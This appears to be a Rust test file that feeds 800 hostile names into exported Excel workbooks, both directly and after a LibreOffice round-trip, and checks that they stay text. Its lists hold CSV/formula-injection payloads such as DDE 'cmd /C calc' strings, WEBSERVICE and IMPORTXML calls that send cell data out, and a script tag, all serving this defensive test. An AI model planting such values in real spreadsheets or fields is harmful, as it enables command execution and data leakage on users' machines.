//! 800 hostile names in every kind of workbook: they stay text, the same in every reader, and nothing calculates but our own totals.

use chrono::{DateTime, Utc};
use tiendo::access::Actor;
use tiendo::campaign::quotas;
use tiendo::model::as_of::AsOf;
use tiendo::model::id::{RoundId, SnapshotId};
use tiendo::people::{self, MeasureState, PageSize, PeopleQuery};
use tiendo::progress::report::ProgressReport;
use tiendo::progress::{Compared, Finding, Reconciliation, figures, series};
use tiendo::rounds::{self, RoundSheet};
use tiendo::store::Db;
use tiendo::workbooks::round_form::of_unit;
use tiendo::workbooks::{
    CitedSnapshot, PrintedRegister, ProgressContent, Unfinished, WorkbookContext, carried, document_register, progress,
    quota_form, ranking, round_status,
};

use super::now;
use super::readers::{Sheets, by_libreoffice, by_openpyxl, written};
use super::workbook::query;
use crate::roster::steps::IMPORTED;
use crate::rounds::tree::{COMMUNE, DUONG_HOA, open, rounds as asked_rounds};
use crate::support::office::account;
use crate::support::server::TestServer;

/// How many names.
const NAMES: usize = 800;
/// What our own formulas begin with.
const OURS: [&str; 3] = ["=SUM(", "=MAX(0,", "=IF("];

/// Beginnings that spreadsheets take for formulas, full-width forms, spaces and controls before them.
const BEGINNINGS: [&str; 20] = [
    "",
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    " =",
    "'=",
    "\"=",
    "＝",
    "＋",
    "－",
    "＠",
    "{=",
    "%=",
    "|=",
    "\u{feff}=",
    "\u{200b}=",
];
/// What follows.
const BODIES: [&str; 40] = [
    "1+1",
    "cmd|' /C calc'!A0",
    "DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
    "HYPERLINK(\"http://example.vn/?x=\"&A1;\"Bấm vào đây\")",
    "IMPORTXML(CONCAT(\"http://example.vn/?\";A1);\"//a\")",
    "WEBSERVICE(\"http://example.vn\")",
    "Sheet1!$A$1",
    "[1]Sheet1!A1",
    "SUM(A1:A9)",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "Thôn Ngọc Bình",
    "Thôn «Đồi Chè» & <b>Bến</b> \"Trại\" 'cũ'",
    "]]>&amp;&#x41;",
    "_x000D_",
    "_x0041_ _x0000_ _X0041_",
    "_xFFFF_",
    "một\thai",
    "một\r\nhai\rba\nbốn",
    "\u{0}\u{1}\u{8}\u{b}\u{c}\u{1f}\u{7f}\u{85}",
    "\u{fffe}\u{ffff}\u{fdd0}",
    "\u{202e}gnôht\u{202c} \u{200f}\u{200e}\u{2066}\u{2069}",
    "👩‍👩‍👧‍👦🇻🇳🏳️‍🌈 𠀀𝒜",
    "e\u{302}\u{301}\u{323} Thủy Thuỷ",
    "  đầu và cuối  ",
    "\u{a0}\u{3000}",
    "0123456789",
    "1E10",
    "01/02/2023",
    "TRUE",
    "#REF!",
    "#N/A",
    "12,5%",
    "00084",
    "null",
    "<script>alert(1)</script>",
    "&L&\"Arial\"&99 Trang &P",
    "{{so}} {% raw %}",
    "'",
    "\"",
    "😀\u{301}",
];

fn names() -> Vec<String> {
    let mut names: Vec<String> =
        BEGINNINGS.iter().flat_map(|begin| BODIES.iter().map(move |body| format!("{begin}{body}"))).collect();
    assert_eq!(names.len(), NAMES);
    // The longest text that a cell holds, and one that is longer.
    names[10] = "Thôn ".repeat(6_553);
    names[11] = format!("={}", "Ngọc Bình ".repeat(5_000));
    names
}

fn context() -> WorkbookContext {
    let at: DateTime<Utc> = "2023-06-13T02:00:00Z".parse().unwrap();
    let name = "=1+1 & <số liệu> \u{1}".to_owned();
    let snapshot = CitedSnapshot { number: SnapshotId(1), name, sha256: "ab".repeat(32), taken_at: at };
    let agency = "=UBND xã & \u{fffe}".to_owned();
    WorkbookContext { agency, made_by: "@Lê Thị \u{0}Hoa".to_owned(), made_at: at, snapshot: Some(snapshot) }
}

/// The report of the commune with every name in the place of a village.
fn report(db: &Db, names: &[String]) -> ProgressReport {
    let mut report = figures(db, &Actor::operator(), &query(None)).unwrap();
    let village = report.children.iter().find(|(unit, _)| unit.kind.is_village()).unwrap().clone();
    let named = |(place, name): (usize, &String)| {
        let (mut unit, figures) = village.clone();
        unit.name.clone_from(name);
        unit.id.0 += i64::try_from(place).unwrap() * 1_000;
        (unit, figures)
    };
    report.children = names.iter().enumerate().map(named).collect();
    report.campaign.title.clone_from(&names[2]);
    for (measure, name) in report.measures.iter_mut().zip(["=Sheet1!$A$1", "=(A1;B1)", "+Mức 2", "@Mức 2"]) {
        name.clone_into(&mut measure.name);
    }
    report
}

fn progress_book(db: &Db, report: &ProgressReport, names: &[String]) -> Vec<u8> {
    let series = series(db, &Actor::operator(), &query(None)).unwrap();
    let measure = report.measures.iter().find(|measure| measure.has_quota).unwrap();
    let asked = PeopleQuery {
        text: None,
        unit: Some("cam-ngoc".to_owned()),
        state: None,
        check: None,
        barrier: None,
        as_of: report.as_of,
        page: 1,
        per_page: PageSize::Small,
    };
    let somebody = people::search(db, &Actor::operator(), &asked).unwrap().people.remove(0);
    let person = |name: &String| {
        let mut person = somebody.clone();
        person.full_name.clone_from(name);
        person.village = Some(name.clone());
        Unfinished { measure: measure.clone(), state: MeasureState::NotIssued, person }
    };
    let people: Vec<Unfinished> = names.iter().map(person).collect();
    let unit = |name: &String| {
        let mut unit = report.path.last().unwrap().clone();
        unit.name.clone_from(name);
        unit
    };
    let compared = |name: &String| Compared {
        unit: unit(name),
        measure: measure.clone(),
        reported: 2,
        reported_on: report.as_of.day(),
        counted: Some(1),
    };
    let finding =
        |name: &String| Finding { code: "jump", unit: unit(name), measure: measure.id, sentence: name.clone() };
    let checks = Reconciliation {
        path: report.path.clone(),
        as_of: report.as_of.day(),
        compared: names.iter().map(compared).collect(),
        findings: names.iter().map(finding).collect(),
    };
    let content = ProgressContent { report, series: &series, checks: Some(&checks), people: Some(&people) };
    progress(&content, &context()).unwrap()
}

fn quota_book(db: &Db, names: &[String]) -> Vec<u8> {
    let days = (None, AsOf::of_instant(now()));
    let mut table = quotas::table(db, &Actor::operator(), "cam-ngoc-2023", None, days).unwrap();
    let row = table.rows.iter().find(|row| row.unit.kind.is_village()).unwrap().clone();
    table.rows.truncate(1);
    table.rows.extend(names.iter().map(|name| {
        let mut row = row.clone();
        row.unit.name.clone_from(name);
        row
    }));
    quota_form(&table, &context()).unwrap()
}

fn register_book(names: &[String]) -> Vec<u8> {
    let rows: Vec<[String; 10]> = names.iter().map(|name| std::array::from_fn(|_| name.clone())).collect();
    let printed = PrintedRegister {
        title: "SỔ ĐĂNG KÝ VĂN BẢN ĐI",
        year: 2023,
        columns: ["=a", "+b", "-c", "@d", "e", "f", "g", "h", "i", "k"],
        widths: [12.0; 10],
        rows: &rows,
        context: &context(),
    };
    document_register(&printed).unwrap()
}

/// Each name stands in a sheet as often as it should, as text; nothing calculates but what is ours.
fn holds(sheets: &Sheets, sheet: &str, names: &[String], times: usize) {
    let cells = &sheets[sheet];
    let mut counted: std::collections::HashMap<&str, usize> = std::collections::HashMap::new();
    for text in &cells.texts {
        *counted.entry(text.as_str()).or_default() += 1;
    }
    let mut expected: std::collections::HashMap<String, usize> = std::collections::HashMap::new();
    for name in names {
        *expected.entry(carried(name).into_owned()).or_default() += times;
    }
    for (name, times) in &expected {
        let found = counted.get(name.as_str()).copied().unwrap_or_default();
        assert!(
            found >= *times,
            "{sheet}: {:?} stands {found} times, not {times}",
            name.chars().take(60).collect::<String>()
        );
    }
    for (name, cells) in sheets {
        let foreign: Vec<&String> =
            cells.formulas.iter().filter(|formula| !OURS.iter().any(|ours| formula.starts_with(ours))).collect();
        assert!(foreign.is_empty(), "{name}: {foreign:?}");
    }
}

/// Reads workbooks by openpyxl, and again after LibreOffice has opened and saved them.
fn read_twice(books: &[(&str, Vec<u8>)]) -> [Vec<Sheets>; 2] {
    let place = tempfile::tempdir().unwrap();
    let files = written(place.path(), books);
    let saved = place.path().join("saved");
    let again = by_libreoffice(&files, "xlsx", &saved);
    [by_openpyxl(&files), by_openpyxl(&again)]
}

on_both_databases! {
    fn eight_hundred_hostile_names_stay_text(db from IMPORTED) {
        let names = names();
        let report = report(db, &names);
        let books = [
            ("progress", progress_book(db, &report, &names)),
            ("ranking", ranking(&report, &context()).unwrap()),
            ("quota", quota_book(db, &names)),
            ("register", register_book(&names)),
        ];
        for read in read_twice(&books) {
            let [progress, ranking, quota, register] = read.try_into().unwrap();
            holds(&progress, "Theo đơn vị", &names, 1);
            holds(&progress, "Dữ liệu", &names, report.children[0].1.len());
            holds(&progress, "Người chưa hoàn thành", &names, 2);
            holds(&progress, "Chất lượng dữ liệu", &names, 3);
            holds(&ranking, "Khối thôn, tổ dân phố", &names, 1);
            holds(&ranking, "Dữ liệu", &names, 1);
            holds(&quota, "Giao chỉ tiêu", &names, 1);
            holds(&register, "Sổ đăng ký", &names, 10);
        }
    }

    fn hostile_names_of_a_round_stay_text(db from DUONG_HOA) {
        let names = names();
        let officer = account(db, "duonghoa.canbo", tiendo::model::role::Role::Officer, COMMUNE);
        let server = TestServer::start(db, "2022-11-01T02:00:00Z".parse().unwrap());
        let token = server.token("duonghoa.canbo", &officer.password.unwrap());
        let id = open(&server, &token, &asked_rounds()[0]);
        let at = "2022-11-29T02:00:00Z".parse().unwrap();
        let sheet = hostile(rounds::show(db, &Actor::operator(), RoundId(id), at).unwrap(), &names);
        let hop = &sheet.hops[0];
        let mut books = vec![("status", round_status(&sheet, &context()).unwrap())];
        let forms: Vec<String> = (0..12).map(|place| format!("form{place}")).collect();
        // One name of each sort of body, with each of some beginnings.
        let shown: Vec<&String> = names.iter().skip(40).step_by(63).take(12).collect();
        for (file, name) in forms.iter().zip(&shown) {
            let line = hop.lines.iter().find(|line| line.unit.name == **name).unwrap();
            books.push((file.as_str(), of_unit(db.keys(), &sheet, hop, line).unwrap().bytes));
        }
        for read in read_twice(&books) {
            let (status, forms) = read.split_first().unwrap();
            holds(status, "Từng đơn vị", &names, 2);
            for (form, name) in forms.iter().zip(&shown) {
                holds(form, "Báo cáo", &[(*name).clone()], 1);
            }
        }
    }
}

/// A round in which every name reports.
fn hostile(mut sheet: RoundSheet, names: &[String]) -> RoundSheet {
    sheet.round.name.clone_from(&names[41]);
    sheet.campaign.title.clone_from(&names[2]);
    for measure in &mut sheet.measures {
        measure.name.clone_from(&names[86]);
    }
    for hop in &mut sheet.hops {
        hop.receiver_name.clone_from(&names[43]);
    }
    let hop = sheet.hops.first_mut().unwrap();
    let line = hop.lines.iter().find(|line| !line.contacts.is_empty()).unwrap().clone();
    let named = |name: &String| {
        let mut line = line.clone();
        line.unit.name.clone_from(name);
        for contact in &mut line.contacts {
            contact.name.clone_from(name);
            contact.post = None;
        }
        line
    };
    hop.lines = names.iter().map(named).collect();
    sheet
}
